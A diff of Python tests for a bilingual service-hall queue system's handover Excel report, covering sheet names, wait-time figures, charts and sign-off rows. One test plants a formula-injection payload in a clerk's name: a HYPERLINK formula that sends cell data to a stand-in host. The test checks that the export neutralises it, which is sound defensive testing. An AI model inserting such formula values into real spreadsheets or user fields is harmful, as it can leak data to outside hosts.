@@ -14,7 +14,7 @@ from openpyxl import load_workbook
 from sqlalchemy import select
 
 from kiosk.extensions import db
-from queue_engine.core.models import Ticket
+from queue_engine.core.models import Ticket, User
 from queue_engine.reporting.reports import figure_rows
 from tests.web.staff_login import log_in
 
@@ -24,6 +24,7 @@ PAGES = [
     "/supervisor/reports",
     "/supervisor/reports.csv",
     "/supervisor/reports.xlsx",
+    "/supervisor/reports/handover.xlsx",
     "/supervisor/reports/print",
     "/supervisor/staffing",
 ]
@@ -269,7 +270,89 @@ def test_the_print_page_is_one_day_laid_out_for_a4(supervisor, busy_day):
     text = answer.get_data(as_text=True)
     assert answer.status_code == 200
     assert 'class="a4"' in text and "staff-nav" not in text
-    assert f"Daily report · 日报 {busy_day['day'].isoformat()}" in text
+    assert f"统计日报 {busy_day['day'].isoformat()}" in text
+    assert "政务服务大厅" in text and "打印日报" not in text
+    assert "制表人" in text and "审核人" in text
+
+
+def test_the_print_page_of_a_range_is_titled_with_the_hall_and_the_period(supervisor, busy_day):
+    today = busy_day["day"]
+    first = today - timedelta(days=29)
+
+    text = supervisor.get(f"/supervisor/reports/print?from={first}&to={today}").get_data(as_text=True)
+
+    assert f"统计报表 {first.isoformat()} 至 {today.isoformat()}" in text
+    assert f"Report {first.isoformat()} to {today.isoformat()}" in text
+    assert '<p class="print-hall" id="print-hall">政务服务大厅 · Service Hall</p>' in text
+
+
+def _sheet_rows(sheet) -> list[list[Any]]:
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def _row_of(rows: list[list[Any]], first: str) -> list[Any]:
+    return next(row for row in rows if row and row[0] == first)
+
+
+def test_the_handover_workbook_has_the_hall_a_sheet_per_part_minutes_charts_and_sign_off(
+    supervisor, busy_day
+):
+    day = busy_day["day"].isoformat()
+    figures = csv_figures(supervisor.get("/supervisor/reports.csv").data)
+
+    answer = supervisor.get("/supervisor/reports/handover.xlsx")
+
+    assert answer.status_code == 200 and answer.mimetype.endswith("spreadsheetml.sheet")
+    assert "handover-" in answer.headers["Content-Disposition"]
+    book = load_workbook(io.BytesIO(answer.data))
+    assert book.sheetnames == ["概况", "时长", "按小时", "按人员", "满意度"]  # no bookings: no 预约 sheet
+    for sheet in book.worksheets:
+        rows = _sheet_rows(sheet)
+        assert rows[0][0] == "政务服务大厅"
+        assert rows[1][0] == f"统计日报 {day} · {sheet.title}"
+        assert _row_of(rows, "制表人：")[2] == "审核人："
+    overview = _sheet_rows(book["概况"])
+    assert _row_of(overview, "指标")[:2] == ["指标", "数值"]
+    assert _row_of(overview, "取号")[1] == figures["totals||issued"] == 5
+    times = _sheet_rows(book["时长"])
+    assert _row_of(times, "指标")[:5] == ["指标", "笔数", "平均（分钟）", "中位数（分钟）", "90%分位（分钟）"]
+    wait = _row_of(times, "等候（取号→叫号）")
+    assert wait[2] == round(figures["totals||wait.mean_s"] / 60, 1) and wait[2] < 60
+    assert _row_of(times, "办理（开始→办结）")[2] == round(figures["totals||service_time.mean_s"] / 60, 1)
+    assert book["时长"].cell(times.index(wait) + 1, 3).number_format == "0.0"
+    assert [row[:3] for row in _sheet_rows(book["按小时"]) if row[0] == "时段"] == [["时段", "取号", "办结"]]
+    assert book["按小时"]._charts and book["满意度"]._charts and book["概况"]._charts
+    clerks = _sheet_rows(book["按人员"])
+    assert _row_of(clerks, "经办人")[:2] == ["经办人", "办件"]
+    satisfaction = _sheet_rows(book["满意度"])
+    assert _row_of(satisfaction, "4 满意")[1] == 1 and _row_of(satisfaction, "2 不满意")[1] == 1
+    assert _row_of(satisfaction, "差评数")[1] == 1 and _row_of(satisfaction, "好评（4-5分）")[1] == 1
+    assert _row_of(satisfaction, "满意率")[1] == 0.5
+
+
+def test_the_handover_workbook_in_english_and_its_text_cells_are_formula_safe(app, supervisor, busy_day):
+    with app.app_context():
+        clerk = db.session.scalars(select(User).where(User.username == "clerk1")).one()
+        clerk.display_name = '=HYPERLINK("http://x.example/?"&A1,"clerk")'
+        db.session.commit()
+
+    book = load_workbook(io.BytesIO(supervisor.get("/supervisor/reports/handover.xlsx?lang=en").data))
+
+    assert book.sheetnames == ["Overview", "Times", "By hour", "By clerk", "Satisfaction"]
+    overview = _sheet_rows(book["Overview"])
+    assert overview[0][0] == "Service Hall" and overview[1][0].startswith("Daily report ")
+    assert _row_of(overview, "Prepared by:")[2] == "Approved by:"
+    sheet = book["By clerk"]
+    cell = next(c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPERLINK"))
+    assert cell.data_type == "s" and cell.quotePrefix
+
+
+def test_the_reports_page_links_the_handover_report_in_both_languages(supervisor, busy_day):
+    text = supervisor.get("/supervisor/reports?from=2026-11-01").get_data(as_text=True)
+
+    assert 'id="export-handover" href="/supervisor/reports/handover.xlsx?from=2026-11-01"' in text
+    assert "统计报表（上报）" in text and "Report to hand over" in text
+    assert "lang=en" in text.split('id="export-handover-en"')[1].split(">")[0]
 
 
 def test_the_staffing_plan_page_shows_needed_and_open_counters(supervisor, busy_day, clock):
